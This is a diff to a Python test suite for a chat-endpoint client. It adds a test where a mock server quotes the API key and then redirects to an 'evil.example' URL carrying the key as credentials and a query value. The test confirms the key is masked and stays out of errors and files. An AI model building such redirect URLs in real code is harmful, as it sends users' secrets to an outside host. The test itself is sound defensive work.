@@ -188,6 +188,17 @@ def test_what_no_request_can_change_stops_all_of_them_and_shows_no_key(
     assert not any(KEY.encode() in path.read_bytes() for path in tmp_path.rglob("*") if path.is_file())
 
 
+def test_a_key_that_the_endpoint_quotes_gets_nowhere(tmp_path: Path) -> None:
+    redirect = Reply(302, b"", (("Location", f"http://me:{KEY}@evil.example/?key={KEY}"),))
+    with ChatEndpoint([Reply(body=completion(f"Your key is {KEY}.")), redirect]) as endpoint:
+        said, moved = ask(tmp_path, endpoint.url, [request(), request(1)], concurrency=1)
+    assert isinstance(said, Answer)
+    assert said.text == "Your key is [key]."
+    assert "http://evil.example/" in str(moved)
+    assert KEY not in str(moved)
+    assert not any(KEY.encode() in path.read_bytes() for path in tmp_path.rglob("*") if path.is_file())
+
+
 def test_an_endpoint_that_is_down_ends_the_run_before_all_is_tried(tmp_path: Path) -> None:
     with socket.create_server(("127.0.0.1", 0)) as taken:
         port = taken.getsockname()[1]
@@ -307,7 +318,7 @@ def test_requests_per_minute_are_kept(tmp_path: Path) -> None:
     with ChatEndpoint() as endpoint:
         ask(tmp_path, endpoint.url, [request(number) for number in range(6)], requests_per_minute=1200)
     times = [asked.at for asked in endpoint.asked]
-    assert 0.24 <= times[-1] - times[0] < 0.6
+    assert 0.2 <= times[-1] - times[0] < 0.6  # the first may be late
 
 
 def test_what_is_sent(tmp_path: Path) -> None:
